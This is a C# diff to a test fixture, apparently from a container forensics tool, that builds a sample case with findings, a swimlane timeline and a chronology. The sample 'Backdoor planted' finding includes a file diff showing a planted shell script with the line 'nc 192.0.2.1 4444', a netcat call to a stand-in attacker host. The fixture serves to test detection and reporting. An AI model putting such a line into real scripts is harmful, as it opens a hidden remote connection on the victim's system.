@@ -45,6 +45,17 @@ internal static class WorkedCase
         inventory.Layers.AddRange([layer, own]);
         inventory.Images.Add(image);
         inventory.Containers.Add(container);
+        Finding dropped = Finding("planted-file", FindingSeverity.Critical, "Backdoor planted", Start + 5000, "/usr/bin/.sh") with
+        {
+            Content = new FindingContent
+            {
+                Before = new FileGlance("text", 6, null),
+                After = new FileGlance("script for /bin/sh", 40, new string('d', 64)),
+                Difference = "@@ -1 +1,2 @@\n-start\n+#!/bin/sh\n+nc 192.0.2.1 4444\n",
+                Elsewhere = ["shop/web:1.4:/opt/x"],
+            },
+        };
+        Finding[] findings = [dropped, Finding("odd-name", FindingSeverity.Low, "Odd name", Start + 2, null)];
         return new Case
         {
             Details = new CaseDetails { CaseName = "Shop" },
@@ -53,8 +64,14 @@ internal static class WorkedCase
             Inventory = inventory,
             Timeline = Events(image, container, layer, own, files),
             Problems = [],
-            Findings = [Finding("planted-file", FindingSeverity.Critical, "Backdoor planted", Start + 5000, "/usr/bin/.sh"),
-                Finding("odd-name", FindingSeverity.Low, "Odd name", Start + 2, null)],
+            Findings = findings,
+            Story = new StoryPicture(
+                [new Timestamp(Start, 0), new Timestamp(Start + 5000, 0)],
+                [
+                    new SwimLane("e", ["shop/web:1.4"], false, 0, null, [new LaneMark(0, FindingSeverity.Medium, [findings[1]])]),
+                    new SwimLane("e", ["web"], true, 0, null, [new LaneMark(1, FindingSeverity.Critical, [dropped])]),
+                ],
+                [new LaneTie(0, 1, "runs", 0)], 0),
             Chronology =
             [
                 new ChronologyEntry(new Timestamp(Start, 0), "The image shop/web:1.4 was built.", null, s_origin),
